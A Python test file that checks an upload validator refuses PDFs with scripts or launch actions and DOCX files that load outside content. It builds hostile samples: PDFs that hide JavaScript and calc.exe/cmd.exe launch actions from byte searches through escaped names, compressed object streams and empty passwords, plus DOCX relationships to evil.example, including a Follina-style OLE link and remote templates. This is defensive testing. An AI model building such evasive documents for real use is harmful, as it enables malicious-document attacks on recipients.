"""Active content in uploaded documents (issue 11): PDFs are read with a real parser (pypdf), so scripts and
actions are found however they are written — names with ``#xx`` escapes, inside compressed object streams,
behind an empty user password — and DOCX files that make Word load content from elsewhere (remote templates,
altChunk, external OLE objects and images, non-web links) are refused. Every refusal is in Chinese and leaves
nothing stored. The malicious samples are built here, byte by byte."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests import test_uploads_samples as samples
from tests.test_uploads import files_in, receive
from workflows.uploads.formats import UploadRefused

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_with(objects: list[bytes]) -> bytes:
    """A classic PDF (xref table) of the given object bodies; object 1 must be the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for off in offsets:
        out.write(f"{off:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def pdf_with_object_stream(action: bytes) -> bytes:
    """A PDF 1.5 whose OpenAction (object 4) lives inside a Flate-compressed object stream (object 5), found
    through a cross-reference stream (object 6): the action's bytes never appear in the file."""
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def put(number: int, body: bytes) -> None:
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")

    put(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    put(2, PAGES)
    put(3, page())
    header = b"4 0 "
    packed = zlib.compress(header + action)
    put(5, f"<< /Type /ObjStm /N 1 /First {len(header)} /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
        .encode() + packed + b"\nendstream")
    offsets[6] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for n in (1, 2, 3):
        rows.append(struct.pack(">BIH", 1, offsets[n], 0))
    rows.append(struct.pack(">BIH", 2, 5, 0))  # object 4: in object stream 5, index 0
    rows += [struct.pack(">BIH", 1, offsets[5], 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = zlib.compress(b"".join(rows))
    out.write(f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(table)} >>"
              "\nstream\n".encode() + table + b"\nendstream\nendobj\n")
    out.write(f"startxref\n{offsets[6]}\n%%EOF\n".encode())
    return out.getvalue()


def written_by_pypdf(js: str | None = None, user_password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if js:  # a document-level script in the /Names /JavaScript tree, as Acrobat writes it
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(js)})
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), action])})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


CATALOG = b"<< /Type /Catalog /Pages 2 0 R "
HOSTILE_PDFS = {
    "escaped-openaction-js": (pdf_with([CATALOG + b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
                                        PAGES, page()]), "JavaScript"),
    "object-stream-js": (pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "JavaScript"),
    "object-stream-launch": (pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>"), "启动外部程序"),
    "escaped-page-aa": (pdf_with([CATALOG + b">>", PAGES, page(b"/A#41 << /O << /S /URI /URI (http://x) >> >>")]),
                        "/AA"),
    "escaped-launch": (pdf_with([CATALOG + b"/OpenAction << /S /L#61unch /F (calc.exe) >> >>", PAGES, page()]),
                       "启动外部程序"),
    "names-tree-js": (written_by_pypdf(js="app.alert('x');"), "JavaScript"),
    "empty-password-js": (written_by_pypdf(js="app.alert('x');", user_password=""), "JavaScript"),
    "embedded-file": (pdf_with([CATALOG + b"/Names << /E#6dbeddedFiles << /Names [] >> >> >>", PAGES, page()]),
                      "嵌入文件"),
    "password-protected": (written_by_pypdf(user_password="s3cret"), "加密"),
}


@pytest.mark.parametrize("name", list(HOSTILE_PDFS))
def test_pdf_scripts_and_actions_are_found_by_the_parser(tmp_path: Path, name: str) -> None:
    data, says = HOSTILE_PDFS[name]
    with pytest.raises(UploadRefused) as refused:
        receive(tmp_path, data, f"{name}.pdf", "document", "application/pdf")
    assert says in refused.value.message and "不允许上传" in refused.value.message, refused.value.message
    assert files_in(tmp_path) == []


def test_the_raw_bytes_alone_would_not_have_found_them() -> None:
    """The samples hide their scripts from a byte search: only a parser that decodes names and object
    streams sees them."""
    for name in ("escaped-openaction-js", "object-stream-js", "object-stream-launch", "escaped-launch"):
        data = HOSTILE_PDFS[name][0]
        assert b"/JavaScript" not in data and b"/Launch" not in data and b"/JS " not in data, name


@pytest.mark.parametrize("data", [
    samples.pdf(),
    pdf_with([CATALOG + b"/OpenAction [3 0 R /Fit] >>", PAGES, page()]),  # open at page 1: no script
    pdf_with([CATALOG + b">>", PAGES, page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                           b"/A << /S /URI /URI (https://rsj.gz.gov.cn/) >> >>]")]),
    pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    written_by_pypdf(),
    written_by_pypdf(user_password=""),  # encrypted for permissions only: opens without a password
], ids=["minimal", "openaction-page", "web-link", "object-stream-goto", "pypdf", "empty-password"])
def test_ordinary_pdfs_are_accepted(tmp_path: Path, data: bytes) -> None:
    stored = receive(tmp_path, data, "材料.pdf", "document", "application/pdf")
    assert stored.format == "pdf" and len(files_in(tmp_path)) == 1


def docx_with(rels: dict[str, list[tuple[str, str, str | None]]]) -> bytes:
    """The sample Word document plus relationship parts: part -> [(type, target, TargetMode)]."""
    import zipfile

    base = zipfile.ZipFile(io.BytesIO(samples.docx()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in base.infolist():
            zf.writestr(item, base.read(item))
        for part, entries in rels.items():
            body = "".join(
                f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
                + (f' TargetMode="{mode}"' if mode else "") + "/>"
                for i, (kind, target, mode) in enumerate(entries, 10))
            zf.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                              f'openxmlformats.org/package/2006/relationships">{body}</Relationships>')
    return buf.getvalue()


HOSTILE_DOCX = {
    "remote-template": (docx_with({"word/_rels/settings.xml.rels": [
        ("attachedTemplate", "http://evil.example/t.dotm", "External")]}), "远程模板"),
    "alt-chunk": (docx_with({"word/_rels/document.xml.rels": [("aFChunk", "/word/afchunk.mht", None)]}),
                  "altChunk"),
    "follina-ole": (docx_with({"word/_rels/document.xml.rels": [
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", "External")]}),
        "外部对象"),
    "external-image": (docx_with({"word/_rels/document.xml.rels": [
        ("image", "http://tracker.example/pixel.png", "External")]}), "外部图片"),
    "frame": (docx_with({"word/_rels/webSettings.xml.rels": [("frame", "http://evil.example/", "External")]}),
              "外部框架"),
    "file-link": (docx_with({"word/_rels/document.xml.rels": [
        ("hyperlink", "file://///evil.example/share/x.exe", "External")]}), "非网页链接"),
}


@pytest.mark.parametrize("name", list(HOSTILE_DOCX))
def test_docx_with_external_content_is_refused(tmp_path: Path, name: str) -> None:
    data, says = HOSTILE_DOCX[name]
    with pytest.raises(UploadRefused) as refused:
        receive(tmp_path, data, f"{name}.docx", "document", None)
    assert says in refused.value.message and "不允许上传" in refused.value.message, refused.value.message
    assert files_in(tmp_path) == []


def test_docx_with_web_links_is_accepted(tmp_path: Path) -> None:
    data = docx_with({"word/_rels/document.xml.rels": [
        ("hyperlink", "https://rsj.gz.gov.cn/", "External"), ("hyperlink", "mailto:zhidao@gz.gov.cn", "External"),
        ("styles", "styles.xml", None)]})
    assert receive(tmp_path, data, "方案.docx", "document", None).format == "docx"
